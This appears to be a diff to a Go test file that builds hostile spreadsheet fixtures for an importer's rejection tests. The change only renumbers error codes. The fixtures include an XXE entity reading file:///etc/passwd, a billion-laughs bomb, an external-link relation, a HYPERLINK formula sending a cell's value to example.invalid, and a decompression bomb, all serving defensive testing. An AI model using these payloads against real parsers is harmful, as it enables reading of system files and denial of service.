@@ -87,8 +87,8 @@ func hostileBooks() []hostileBook {
 		return packed(byHand(b.String() + `</row>` + taro))
 	}
 	return []hostileBook{
-		{"billion-laughs.xlsx", "F139", "entities in entities: a billion characters for one cell", laughs},
-		{"external-entity.xlsx", "F139", "an entity that is a file of this machine", changed(sheet1, "<worksheet", `<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]><worksheet`)},
+		{"billion-laughs.xlsx", "F333", "entities in entities: a billion characters for one cell", laughs},
+		{"external-entity.xlsx", "F333", "an entity that is a file of this machine", changed(sheet1, "<worksheet", `<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]><worksheet`)},
 		{"external-link.xlsx", "F332", "a link to a workbook on another machine", changed("xl/_rels/workbook.xml.rels", "</Relationships>",
 			`<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>`)},
 		{"formula.xlsx", "F119", "a cell that a spreadsheet would work out, with an answer of the sender's choice beside it", rows(`<row r="2"><c r="A2"><v>1</v></c><c r="B2" t="str"><f>HYPERLINK("http://example.invalid/"&amp;C2)</f><v>見本　太郎</v></c></row>`)},
@@ -117,10 +117,10 @@ func hostileBooks() []hostileBook {
 		{"no-sheets.xlsx", "F139", "a workbook without sheets", with("xl/workbook.xml", "<workbook/>")},
 		{"cut.xlsx", "F213", "the end is missing", func() []byte { b := packed(byHand(heads + taro)); return b[:len(b)*2/3] }},
 		{"macros.xlsx", "F123", "macros under the name of a workbook without", with("xl/vbaProject.bin", "x")},
-		{"binary.xlsx", "F125", "a binary workbook under the name of another", with("xl/workbook.bin", "x")},
-		{"ods.xlsx", "F125", "OpenDocument under the name of a workbook", func() []byte { return packed(parts{"mimetype": "application/vnd.oasis.opendocument.spreadsheet"}) }},
-		{"xls.xlsx", "F125", "a workbook of before 2007 under the name of a newer one", func() []byte { return []byte(oleWith("Workbook")) }},
-		{"pdf.xlsx", "F125", "a PDF under the name of a workbook", func() []byte { return []byte("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n") }},
+		{"binary.xlsx", "F336", "a binary workbook under the name of another", with("xl/workbook.bin", "x")},
+		{"ods.xlsx", "F337", "OpenDocument under the name of a workbook", func() []byte { return packed(parts{"mimetype": "application/vnd.oasis.opendocument.spreadsheet"}) }},
+		{"xls.xlsx", "F335", "a workbook of before 2007 under the name of a newer one", func() []byte { return []byte(oleWith("Workbook")) }},
+		{"pdf.xlsx", "F339", "a PDF under the name of a workbook", func() []byte { return []byte("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n") }},
 		{"huge-cell.xlsx", "F121", "a cell of a gigabyte, packed to a megabyte twice over", nil}, // made when a test runs
 	}
 }
